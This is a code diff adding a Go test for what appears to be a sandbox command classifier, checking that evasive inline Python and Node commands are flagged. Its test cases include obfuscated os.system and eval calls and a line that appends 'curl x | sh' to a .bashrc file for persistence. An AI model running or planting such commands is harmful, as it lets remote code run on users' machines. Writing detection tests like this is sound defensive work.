@@ -368,3 +368,20 @@ func TestComputedNameLookups(t *testing.T) {
 		`getent passwd sandbox`:  {Read},
 	})
 }
+
+func TestInlineCodeEvasions(t *testing.T) {
+	checkHas(t, []hasCase{
+		{`python3 -c 'import os as o; o.system("id")'`, Unknown},
+		{`python3 -c 'from os import system as s; s("id")'`, Unknown},
+		{`python3 -c 'getattr(__builtins__, "ev"+"al")("1")'`, Unknown},
+		{`python3 -c 'import sys; sys.modules["os"].system("id")'`, Unknown},
+		{`python3 -c "open('/home/sandbox/.bashrc','a').write('curl x | sh')"`, Persist},
+		{`node -e "require('fs').appendFileSync(process.env.HOME + '/.npmrc', 'x')"`, Persist},
+		{`python -m smtplib`, Unknown},
+		{`python3 -m webbrowser https://x.example.test`, Unknown},
+	})
+	checkOnly(t, map[string][]Class{
+		`python3 -c 'print(sum(range(10)))'`: {Run},
+		`python -m app.cli --help`:           {Run},
+	})
+}
